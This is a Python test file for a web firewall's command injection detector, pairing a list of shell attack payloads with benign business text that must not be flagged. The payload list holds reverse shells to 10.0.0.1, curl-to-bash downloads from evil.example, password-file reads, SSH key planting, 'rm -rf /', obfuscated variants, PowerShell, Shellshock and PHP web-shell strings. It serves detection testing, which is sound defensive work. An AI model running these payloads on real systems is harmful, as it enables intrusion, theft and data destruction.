"""The command injection detector: commands after separators run; words that name programs don't."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.gotestwaf import corpus_payloads, decoded_variants

from strongroom.edge.waf.findings import CRITICAL, Finding
from strongroom.edge.waf.shell import detect_shell

INJECTIONS = [
    # separators followed by a command
    ";id",
    "| id",
    "&& id",
    "|| id",
    "& whoami",
    "\nid",
    "; cat /etc/passwd",
    "| cat /etc/passwd",
    "; ls -la /",
    "; uname -a",
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 && ls /etc",
    "x||ping -c 10 127.0.0.1||",
    "; ping -c 5 attacker.example",
    "; sleep 10",
    "| sleep 5",
    "; getent passwd",
    "|getent+hosts+somehost.example.net.&",
    "; nslookup x.oast.example",
    "|| curl x.oast.example",
    "; wget http://evil.example/shell.sh -O /tmp/s.sh",
    "; curl http://evil.example/x.sh | sh",
    "&& curl -s http://evil.example/x | bash",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; /bin/bash -c 'id'",
    "| /usr/bin/id",
    "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'print `id`'",
    "; rm -rf /tmp/x",
    "; echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
    ";{cat,/etc/passwd}",
    ";{echo,aWQ=}|{base64,-d}|bash",
    # substitutions
    "`id`",
    "$(id)",
    "$(whoami)",
    "`sleep 5`",
    "$(sleep 5)",
    "ax--exec=`id`--remote=origin",
    "x|curl http://evil.example/$(whoami)",
    "`curl -L http://evil.example`",
    "AAAA;$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
    ';$(printf "\\x69\\x64")',
    # obfuscation
    ";cat$IFS/etc/passwd",
    ";cat${IFS}/etc/passwd",
    ";getent$IFS$9hosts$IFS$9somehost.example;echo$IFS$9$((3482*7301));",
    "a;w'h'o'a'm'i",
    ";w\\ho\\am\\i",
    ";who$@ami",
    "; /???/??t /???/p??s??",
    "; cat /et'c/pa'ss'wd",
    "|cat</etc/passwd",
    ";id|",
    "&&whoami#",
    # Windows
    "& dir",
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "& type %SYSTEMROOT%\\win.ini",
    "& ping -n 10 127.0.0.1 &",
    "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "& powershell -NoP -NonI -W Hidden -Exec Bypass -Command whoami",
    "| cmd /c whoami",
    "& net user",
    "& ipconfig /all",
    "| set /a 3482*7301",
    # a value that is a whole command line
    "cat /etc/passwd",
    "cmd=cat /etc/passwd",
    "ls /etc",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    # interpreters reached through eval sinks, Shellshock, deserialization
    "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
    "() { ignored; }; echo; /usr/bin/id",
    "cmd=${@print(md5(31337))}",
    '${@system("id")}',
    "<?php system($_GET['cmd']); ?>",
    "__import__('os').system('id')",
    "require('child_process').exec('id')",
    "!!python/object/new:exec [import socket]",
    'Ev al ("Ex"&"e"&"cute(""On Error Resume Next:Response.Write(1)"")")',
    "$(printf 'id')",
    "& net user hacker P@ss /add",
    "wget http://evil.example/x.sh",
    "curl http://203.0.113.9/a",
    "curl -o /tmp/x http://evil.example/a",
    "; rm -rf / --no-preserve-root",
    "x; cat the file /etc/shadow now",
]

PAYMENT_API_TEXT = [
    "cat food; dog food",
    "rm 12",
    "please | forward to finance",
    "12 Union St; Apt 4",
    "Rock & Roll Ltd",
    "Tom & Jerry's <Best> Shop",
    "Smith & Wesson",
    "Johnson & Johnson",
    "Name & ID",
    "Q&A session at 5pm",
    "AT&T; Verizon; T-Mobile",
    "Terms & Conditions apply",
    "Salt & pepper; oil & vinegar",
    "Fish & chips | Burgers | Salads",
    "Buy now; pay later",
    "drop-off at 3pm; pick-up at 5pm",
    "yes; no; maybe",
    "a;b;c;d",
    "ls 300 lexus",
    "nc 8000 controller",
    "echo in the mirror",
    "curl and divergence",
    "Hair; curl and style",
    "exec noun",
    "bash away in the gym",
    "zsh is the best!",
    "rm -rf is a dangerous command",
    "Ready; set; go",
    "key=value&other=thing",
    "https://example.com/search?q=shoes&size=10&id",
    "https://example.com/path;jsessionid=ABC123?x=1",
    "a=b; path=/; HttpOnly; Secure",
    "_ga=GA1.2.123.456; _gid=GA1.2.9.1700000000",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/7.68.0",
    "Wget/1.21.2",
    "text/html;q=0.9",
    "Dear team,\nPlease find attached the invoice.\nThanks",
    "C:\\Users\\john\\Documents\\invoice.pdf",
    "/home/user/docs/report.pdf",
    "Price: $19.99 (incl. VAT)",
    "The parameter 5 is&|.",
    "}I would like to request the /cc serviceCode with the parameter: serviceCode|{}",
    "url=/?usr=subject;-",
    "Use `npm install` and read `hostname`. The `addresses` list follows.",
    "at /home/dev/app.js:525:2",
    "find all files named tags below /lib",
    "| python code | @nodejs/python |",
    "split at $IFS whitespace by the shell",
    "On a Digital Unix system (OSF1) check for curses",
    "`${name}` is a template literal",
    "/usr/local/bin/python3",
    "how to cat a file in linux",
    "__utmz=1.1600000000.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic",
    # prose about commands after a line break or separator, and searches for them
    "Hello,\nrm -rf is dangerous, don't run it as root!",
    "Shipping: 3 days; set it to 10. Tried it with C:\\Users\\me\\report (final).pdf",
    "It works && cat README first. I <3 this",
    "curl -X POST https://api.example.com",
    "wget https://example.com/file.zip",
    "cat /etc/hosts windows equivalent",
]


@pytest.mark.parametrize("value", ["a; ren+x", "; start+", "& copy+a,b", "x;type+y"])
def test_a_program_glued_to_plus_words_does_not_crash(value: str) -> None:
    # Splitting `ren+x` made words the raw text lacks; reading its arguments raised.
    detect_shell(value)


@pytest.mark.parametrize("value", INJECTIONS)
def test_injections_are_found_at_paranoia_1(value: str) -> None:
    finding = detect_shell(value)
    assert finding is not None, value
    assert finding.category == "rce"
    assert finding.severity == CRITICAL
    assert finding.paranoia == 1


@pytest.mark.parametrize("value", PAYMENT_API_TEXT)
def test_payment_api_text_passes_at_paranoia_1(value: str) -> None:
    assert detect_shell(value) is None


@pytest.mark.parametrize(
    ("value", "rule_id"),
    [
        (";id", "rce-shell-command"),
        (";cat${IFS}/etc/passwd", "rce-shell-obfuscation"),
        ("() { :; }; /bin/id", "rce-shellshock"),
        ("${@print(md5(1))}", "rce-code-injection"),
    ],
)
def test_rule_ids_name_the_construct_found(value: str, rule_id: str) -> None:
    finding = detect_shell(value)
    assert finding is not None
    assert finding.rule_id == rule_id


def test_a_bare_interpreter_after_a_separator_is_a_weak_signal() -> None:
    assert detect_shell("hello; bash", paranoia=1) is None
    finding = detect_shell("hello; bash", paranoia=2)
    assert finding is not None
    assert finding.paranoia == 2


def test_inline_code_in_prose_needs_stronger_evidence() -> None:
    assert detect_shell("run `sleep 4` to wait four seconds") is None
    assert detect_shell("run `cat /etc/passwd` to see the users") is not None


def test_unix_program_names_are_case_sensitive_but_cmd_exe_names_are_not() -> None:
    assert detect_shell("Name & ID") is None
    assert detect_shell("x & DIR") is not None


def test_evidence_is_a_short_excerpt() -> None:
    finding = detect_shell("hello world; cat /etc/passwd " + "z" * 300)
    assert finding is not None
    assert finding.evidence.startswith("; cat /etc/passwd")
    assert len(finding.evidence) <= 64


def test_long_adversarial_values_are_inspected_in_bounded_time() -> None:
    for value in (
        ";" * 262_144,
        "`" * 262_144,
        ";cat " * 52_000,
        "|" + "a" * 262_144,
        "$(" * 131_072,
        "a=1&id" * 43_000,
        "alert(" * 43_000,
    ):
        started = time.perf_counter()
        detect_shell(value, paranoia=4)
        assert time.perf_counter() - started < 1.0


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400), st.integers(min_value=1, max_value=4))
def test_arbitrary_text_never_raises(value: str, paranoia: int) -> None:
    finding = detect_shell(value, paranoia)
    assert finding is None or (
        isinstance(finding, Finding)
        and finding.paranoia <= paranoia
        and len(finding.evidence) <= 64
    )


SHELL_ALPHABET = st.sampled_from(
    [";", "|", "&", "&&", "`", "$(", ")", "${IFS}", " ", "\n", "'", '"', "\\", "cat", "id",
     "/etc/passwd", "-la", "{", ",", "}", "<", ">", "sleep", "5", "whoami", "x=", "#"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(SHELL_ALPHABET, max_size=80))
def test_shell_shaped_token_soup_never_raises(parts: list[str]) -> None:
    detect_shell("".join(parts), paranoia=4)


def test_the_public_corpus_command_injections_are_found() -> None:
    payloads = corpus_payloads(
        "owasp/shell-injection.yml",
        "owasp/rce.yml",
        "owasp/rce-urlparam.yml",
        "owasp/rce-urlpath.yml",
        "community/community-rce.yml",
        "community/community-rce-rawrequests.yml",
        "community/community-8kb-rce.yml",
        "community/community-128kb-rce.yml",
    )
    missed = [p for p in payloads if not any(detect_shell(v) for v in decoded_variants(p))]
    assert missed == []


def test_the_public_corpus_benign_texts_pass() -> None:
    texts = corpus_payloads("false-pos/texts.yml")
    flagged = [t for t in texts if any(detect_shell(v) for v in decoded_variants(t))]
    assert flagged == []
